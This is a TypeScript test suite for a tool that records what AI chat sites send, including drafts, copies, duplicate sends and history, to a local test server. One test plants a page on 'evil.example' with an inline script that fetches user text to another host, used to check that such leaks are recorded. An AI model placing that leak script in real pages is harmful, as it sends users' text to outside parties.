import { beforeEach, describe, expect, test } from 'vitest';
import { SITES } from '../fixtures/sites/index.ts';
import type { CarriedKind } from '../fixtures/sites/types.ts';
import { AWKWARD, addressOf } from './baseline-subjects.ts';
import type { TestBed } from './test-bed.ts';

/** What leaves beside the message itself, and where. */
const BESIDE: readonly (readonly [site: string, kind: CarriedKind])[] = [
  ['chatgpt', 'draft'],
  ['claude', 'copy'],
  ['copilot', 'draft'],
  ['perplexity', 'copy'],
  ['perplexity', 'draft'],
];

const BUTTON = `document.querySelector("[data-testid='send-button']")`;
const dispatchTwice = (target: string, event: string): string =>
  `for (let times = 0; times < 2; times += 1) ${target}.dispatchEvent(${event})`;

/** In the page: each way to send, twice at once. */
const SEND_TWICE: Readonly<Record<string, string>> = {
  click: `${BUTTON}.click(); ${BUTTON}.click()`,
  pointerdown: dispatchTwice(BUTTON, `new PointerEvent('pointerdown', { bubbles: true })`),
  mousedown: dispatchTwice(BUTTON, `new MouseEvent('mousedown', { bubbles: true })`),
  form: `${BUTTON}.form.requestSubmit(); ${BUTTON}.form.requestSubmit()`,
  Enter: dispatchTwice(
    'document.activeElement',
    `new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, cancelable: true })`,
  ),
};

function testMessages(bed: TestBed): void {
  test.each(SITES)('$id sends on Enter and by its button', async ({ id, sendControl }) => {
    const { composer, server } = bed;
    await composer.goto(addressOf(id));
    await composer.paste(AWKWARD);
    await composer.waitForText(AWKWARD);
    await composer.page.press('Enter');
    await server.waitForMessage();
    await composer.page.type('second');
    await composer.page.click(sendControl);
    await server.waitForMessage(15_000, 2);
    const sent = server.messages().map(({ site, text }) => ({ site, text }));
    expect(sent).toEqual([
      { site: id, text: AWKWARD },
      { site: id, text: 'second' },
    ]);
    expect(server.carrying(AWKWARD)).not.toEqual([]);
  });

  test.each(BESIDE)('%s sends a %s as well', async (id, kind) => {
    const { composer, server } = bed;
    await composer.goto(addressOf(id));
    await composer.paste('said twice');
    if (kind === 'copy') await composer.page.press('Enter');
    const found = () => server.messages(kind).find(({ text }) => text === 'said twice');
    expect(await server.waitFor(kind, found, 15_000)).toMatchObject({ site: id });
    // A copy may overtake the message itself.
    if (kind === 'copy') await server.waitForMessage();
    expect(server.messages()).toHaveLength(kind === 'copy' ? 1 : 0);
  });

  test.each(['click', 'pointerdown', 'mousedown', 'form'])(
    'a button on %s sends once',
    async (on) => {
      const { composer, server } = bed;
      await composer.goto(`https://chatgpt.com/?send=${on}`);
      await composer.page.type('by button');
      await composer.page.click("[data-testid='send-button']");
      await server.waitForMessage();
      expect(await composer.sent()).toBe(1);
      // The click has moved the focus to the button.
      await composer.focus();
      await composer.page.type('by key');
      await composer.page.press('Enter');
      await server.waitForMessage(15_000, 2);
      expect(server.messages().map(({ text }) => text)).toEqual(['by button', 'by key']);
      expect(await composer.attempts()).toBe(2);
    },
  );

  test.each(Object.keys(SEND_TWICE))('two sends by %s are told from one', async (on) => {
    const { composer, server } = bed;
    await composer.goto(`https://chatgpt.com/?send=${on}`, 'textarea');
    await composer.page.type('once');
    await composer.page.evaluate(SEND_TWICE[on] ?? '');
    expect((await server.waitForMessage()).text).toBe('once');
    expect(await composer.sent()).toBe(1);
    expect(await composer.attempts()).toBe(2);
    // A moment later too: the control is still there, to stop the answer.
    await composer.page.evaluate(SEND_TWICE[on] ?? '');
    expect(await composer.attempts()).toBe(4);
    expect(await composer.sent()).toBe(1);
  });
}

function testNetwork(bed: TestBed): void {
  test.each(['fetch', 'xhr'])('gemini sends by the %s that it kept', async (transport) => {
    const { composer, server } = bed;
    await composer.goto(`https://gemini.google.com/?transport=${transport}`);
    await composer.page.evaluate('window.fetch = window.XMLHttpRequest = undefined');
    await composer.page.type('kept');
    await composer.page.press('Enter');
    expect((await server.waitForMessage()).text).toBe('kept');
  });

  test('qwen sends the history with each message', async () => {
    const { composer, server } = bed;
    await composer.goto('https://chat.qwen.ai/');
    for (const [index, text] of ['one', 'two'].entries()) {
      await composer.page.type(text);
      await composer.page.press('Enter');
      await server.waitForMessage(15_000, index + 1);
    }
    const last = server.records.findLast(({ method }) => method === 'POST');
    expect(last?.text).toMatch(/"one".*"two"/);
  });

  test('the demo is served over plain http too', async () => {
    const { composer, server } = bed;
    await composer.goto('http://pasteward-demo.localhost/');
    await composer.page.type('hello');
    await composer.page.press('Enter');
    expect(await server.waitForMessage()).toMatchObject({ site: 'demo', text: 'hello' });
  });

  test('a page of the test runs at its own host, and any host is recorded', async () => {
    const { composer, server } = bed;
    server.page(
      'evil.example',
      '/trap',
      '<script>fetch("https://else.example/?q=t%C3%A9xt")</script>',
    );
    await composer.page.goto('https://evil.example/trap');
    const leaks = () => (server.carrying('téxt').length > 0 ? server.carrying('téxt') : undefined);
    expect(await server.waitFor('leak', leaks, 15_000)).toContain('GET else.example/?q=t%C3%A9xt');
  });
}

/** Proves that each site's page sends what its editor holds, and that the server can read it. */
export function describeSites(bed: TestBed): void {
  describe('sites', () => {
    beforeEach(() => bed.server.reset());
    testMessages(bed);
    testNetwork(bed);
  });
}
